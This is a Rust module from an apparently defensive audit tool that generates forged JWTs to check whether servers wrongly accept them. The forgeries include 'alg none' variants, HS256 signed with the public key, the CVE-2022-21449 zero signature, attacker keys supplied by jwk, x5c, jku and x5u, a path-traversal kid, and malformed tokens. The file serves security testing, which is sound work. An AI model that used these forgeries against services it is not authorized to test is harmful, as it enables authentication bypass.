//! Forged tokens: what an attacker can make from the public documents of a provider, without its private key.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use super::AuditError;
use super::attack::{Attack, Expectation, Family, bearer};
use super::attacker_key_server::AttackerKeyServer;
use super::forger_key::{ForgerKey, hs256, now, signing_input};
use super::public_key::PublicKey;
use super::target_info::Issuer;

/// An attacker who forges tokens of one issuer.
pub struct Forger {
    /// The issuer.
    pub issuer: Issuer,
    /// The key of the attacker.
    pub key: ForgerKey,
    /// The scopes of its tokens, separated by spaces.
    pub scopes: String,
    algorithm: String,
    audiences: Vec<String>,
}

impl Forger {
    /// Creates a forger of tokens for `audiences`, with `scopes`.
    ///
    /// # Errors
    /// [`AuditError::Randomness`] if no key can be generated.
    pub fn new(issuer: Issuer, audiences: Vec<String>, scopes: String) -> Result<Self, AuditError> {
        let algorithm = issuer.key.as_ref().map_or(Algorithm::RS256, |key| key.algorithm);
        Ok(Self {
            key: ForgerKey::generate(algorithm)?,
            algorithm: format!("{algorithm:?}"),
            issuer,
            audiences,
            scopes,
        })
    }

    /// Returns claims with access to everything, as JSON.
    fn claims(&self) -> String {
        json!({
            "iss": self.issuer.name, "sub": "portcullis-audit", "aud": self.audiences, "client_id": "portcullis-audit",
            "jti": "portcullis-audit", "iat": now(), "exp": now() + 3600, "scope": self.scopes,
        })
        .to_string()
    }

    /// Returns a valid header with the members of `change`. A `null` in it removes a member.
    fn header(&self, change: &Value) -> String {
        let mut header = json!({"alg": self.algorithm, "typ": "at+jwt"});
        if let Some(PublicKey { id: Some(id), .. }) = &self.issuer.key {
            header["kid"] = json!(id);
        }
        let members = header.as_object_mut().into_iter().zip(change.as_object());
        for (header, change) in members {
            header.extend(change.clone());
            header.retain(|_, value| !value.is_null());
        }
        header.to_string()
    }

    /// Returns a token that is signed by the key of the forger, with `change` applied to its header.
    ///
    /// # Errors
    /// [`AuditError::Randomness`] if it cannot be signed.
    pub fn token(&self, change: &Value) -> Result<String, AuditError> {
        Ok(self.key.sign(&self.header(change), &self.claims())?)
    }
}

fn of(name: impl Into<String>, token: &str) -> Attack {
    Attack::new(Family::Forged, name, bearer(token))
}

/// Returns attacks with malformed tokens.
pub(super) fn malformed(forger: &Forger) -> Result<Vec<Attack>, AuditError> {
    let good = forger.token(&json!({}))?;
    let (head, claims) = (forger.header(&json!({})), forger.claims());
    let (message, signature) = good.rsplit_once('.').unwrap_or_default();
    let payload = message.split_once('.').unwrap_or_default().1;
    let twice = |json: &str, member: &str| format!("{{{member},{}", &json[1..]);
    let list = |json: &str| format!("[{json}]");
    let own = |head: &str, claims: &str| forger.key.sign(head, claims);
    Ok(vec![
        of("no JWT", "portcullis-audit-sends-no-token-here"),
        of("two parts", message),
        of("four parts", &format!("{good}.{payload}")),
        of("five parts", &format!("{good}.{payload}.{signature}")),
        of("only dots", ".."),
        of("a header that is no JSON", &own("portcullis audit, no JSON", &claims)?),
        of("a header that is a list", &own(&list(&head), &claims)?),
        of("claims that are a list", &own(&head, &list(&claims))?),
        of("claims that are no JSON", &own(&head, "portcullis audit, no JSON")?),
        of("alg twice in the header", &own(&twice(&head, r#""alg":"none""#), &claims)?),
        of("a claim twice", &own(&head, &twice(&claims, r#""scope":"""#))?),
        of("a padded header", &good.replacen('.', "=.", 1)),
        of(
            "20,000 letters",
            &format!("{}.{}.{signature}", good.split('.').next().unwrap_or_default(), "A".repeat(20_000)),
        )
        .expecting(Expectation::UnauthorizedOrMalformed),
    ])
}

/// Returns attacks with well-formed tokens, one for each trick that has worked on some server. `suffix` tells issuers
/// apart.
pub(super) fn well_formed(
    forger: &Forger,
    suffix: &str,
    key_server: &AttackerKeyServer,
) -> Result<Vec<Attack>, AuditError> {
    let claims = forger.claims();
    let head = |change: Value| forger.header(&change);
    let own = |change: Value| forger.token(&change);
    let unsigned = |change: Value| format!("{}.", signing_input(&head(change), &claims));
    let hmac = |secret: &[u8]| hs256(&head(json!({"alg": "HS256"})), &claims, secret);
    let jwk = {
        let mut jwk = forger.key.jwk.clone();
        jwk["kid"] = json!("portcullis-audit");
        jwk
    };
    let with_zeros = |algorithm: &str| {
        let signature = "A".repeat(86); // Two numbers of 32 bytes, both zero (CVE-2022-21449).
        format!("{}.{signature}", signing_input(&head(json!({"alg": algorithm})), &claims))
    };
    let mut attacks = vec![
        of("alg none", &unsigned(json!({"alg": "none"}))),
        of("alg None", &unsigned(json!({"alg": "None"}))),
        of("alg NONE", &unsigned(json!({"alg": "NONE"}))),
        of("alg nOnE", &unsigned(json!({"alg": "nOnE"}))),
        of("alg none, kid none", &unsigned(json!({"alg": "none", "kid": "none"}))),
        of("alg none with a signature", &own(json!({"alg": "none"}))?),
        of("an empty alg", &unsigned(json!({"alg": ""}))),
        of("no alg", &own(json!({"alg": null}))?),
        of("HS256, an empty secret", &hmac(b"")),
        of("HS256, the secret secret", &hmac(b"secret")),
        of("ES256 with zeros", &with_zeros("ES256")),
        of("own key, no kid", &own(json!({"kid": null}))?),
        of("own key, unknown kid", &own(json!({"kid": "portcullis-audit"}))?)
            .expecting(Expectation::UnauthorizedOrKeyPending),
        of("own key, kid is a path", &own(json!({"kid": "../../../../../../dev/null"}))?)
            .expecting(Expectation::UnauthorizedOrKeyPending),
        of("own key, kid is a list", &own(json!({"kid": ["portcullis-audit"]}))?),
        of("own key in jwk", &own(json!({"kid": "portcullis-audit", "jwk": jwk}))?),
        of("own key in x5c", &own(json!({"kid": null, "x5c": [STANDARD.encode(&forger.key.certificate)]}))?),
        of("a critical extension", &own(json!({"crit": ["exp"], "exp": now() + 3600}))?),
        of("an unencoded payload (b64)", &own(json!({"crit": ["b64"], "b64": false}))?),
        of("the type of another token", &own(json!({"typ": "logout+jwt"}))?),
    ];
    for (name, change, path) in [
        ("own key by jku", json!({"kid": "portcullis-audit", "jku": key_server.url("/jku", suffix)}), "/jku"),
        ("own key by x5u", json!({"kid": null, "x5u": key_server.url("/x5u", suffix)}), "/x5u"),
    ] {
        attacks.push(Attack { key_path: Some(path), ..of(name, &own(change)?) });
    }
    if let Some(PublicKey { id, pem, bytes, .. }) = &forger.issuer.key {
        attacks.push(of("HS256, public key as PEM", &hmac(pem.as_bytes())));
        attacks.push(of("HS256, public key as trimmed PEM", &hmac(pem.trim_end().as_bytes())));
        attacks.push(of("HS256, public key as bytes", &hmac(bytes)));
        if id.is_some() {
            attacks.push(of("own key, the provider's kid", &own(json!({}))?));
        }
    }
    for attack in &mut attacks {
        attack.name += suffix;
    }
    key_server.publish(suffix, jwk, &forger.key.certificate);
    Ok(attacks)
}
